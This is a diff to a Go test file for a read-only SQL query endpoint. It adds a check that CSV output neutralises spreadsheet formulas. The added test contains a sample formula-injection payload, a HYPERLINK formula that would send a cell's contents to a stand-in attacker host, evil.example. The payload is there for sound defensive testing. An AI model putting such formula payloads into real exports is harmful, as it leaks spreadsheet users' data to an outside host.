@@ -55,6 +55,12 @@ func TestReadOnlySQL(t *testing.T) {
 	if raw != "id,priority\nEXT-1,high\n" || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
 		t.Fatalf("csv %q", raw)
 	}
+	// Text a spreadsheet would run as a formula is neutralised; numbers,
+	// negative ones too, stay numbers.
+	raw, _ = query(sqlBody(`SELECT '=HYPERLINK("http://evil.example/?x="&A2,"x")' AS "=cmd", -5 AS n, '@SUM(A1)' AS s`, ""), "text/csv", 200)
+	if raw != "'=cmd,n,s\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"x\"\")\",-5,'@SUM(A1)\n" {
+		t.Fatalf("csv formulas %q", raw)
+	}
 	raw, _ = query(sqlBody(`SELECT * FROM range(100)`, `,"max_rows":10`), "", 200)
 	if err := json.Unmarshal([]byte(raw), &res); err != nil || len(res.Rows) != 10 || !res.Truncated {
 		t.Fatalf("row cap: %s", raw)
